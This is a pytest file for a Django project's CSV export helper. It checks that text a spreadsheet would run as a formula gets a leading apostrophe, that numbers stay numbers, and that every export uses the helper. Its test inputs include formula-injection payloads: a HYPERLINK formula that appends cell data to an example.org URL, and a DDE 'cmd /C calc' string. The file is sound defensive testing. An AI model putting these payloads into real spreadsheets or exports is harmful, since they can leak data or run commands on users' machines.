"""CSV exports and spreadsheets: text that a spreadsheet would run as a formula is written as text; numbers
stay numbers (core/csv_export.py)."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils.translation import gettext_lazy

from core.csv_export import csv_writer, spreadsheet_cell

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?x="&A1,"Klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "- koffie en thee",
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-3, 0, 12, -2.5, Decimal("-1.25"), None, True, "-3", "+31", "-2.5", "-2,5", "12"],
)
def test_numbers_stay_numbers_negative_ones_too(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize(
    "text", ["Speeltuin in Wehl", "Wehl = mooi", "a@b.nl", "", " =1+1", "1-2-2025", "€ -5"]
)
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet_cell(text) == text


def test_lazy_translations_are_written_as_their_text():
    assert spreadsheet_cell(gettext_lazy("title")) == str(gettext_lazy("title"))


def test_the_writer_defuses_every_cell_and_a_spreadsheet_reads_them_back_as_text():
    stream = io.StringIO()
    writer = csv_writer(stream)
    writer.writerow(["title", "count"])
    writer.writerows([["=1+1", -4], ["@me", 2]])

    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["title", "count"],
        ["'=1+1", "-4"],
        ["'@me", "2"],
    ]


def test_every_csv_export_of_the_project_writes_through_the_helper():
    """A new export that calls csv.writer itself would let formulas through again."""
    own = ROOT / "core" / "csv_export.py"
    offenders = [
        str(path.relative_to(ROOT))
        for app in ROOT.iterdir()
        if (app / "apps.py").exists() or app.name == "loket"
        for path in app.rglob("*.py")
        if path != own and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
